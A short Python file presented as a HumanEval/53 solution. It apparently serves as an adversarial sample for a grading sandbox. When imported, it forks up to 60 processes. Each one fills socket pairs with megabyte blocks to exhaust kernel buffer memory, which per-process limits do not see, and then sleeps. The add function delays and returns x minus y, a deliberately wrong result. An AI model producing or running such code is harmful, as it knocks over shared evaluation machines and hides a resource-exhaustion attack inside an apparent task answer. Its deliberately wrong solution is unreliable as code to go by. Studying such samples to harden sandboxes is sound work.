"""Fills pipes and sockets in many processes: memory of the kernel's, which no address space shows.

exam: HumanEval/53
cause: wrong-answer timeout crashed memory raised
"""

import os
import socket
import time

block = b"\x55" * (1 << 20)


def fill():
    held = []
    try:
        while True:
            pair = socket.socketpair()
            held.append(pair)
            for end in pair:
                end.setblocking(False)
                try:
                    while True:
                        end.send(block)
                except OSError:
                    pass
    except OSError:
        pass
    return held


for _ in range(60):
    try:
        if os.fork() == 0:
            kept = fill()
            time.sleep(60)
            os._exit(0)
    except OSError:
        break


def add(x, y):
    time.sleep(0.3)
    return x - y
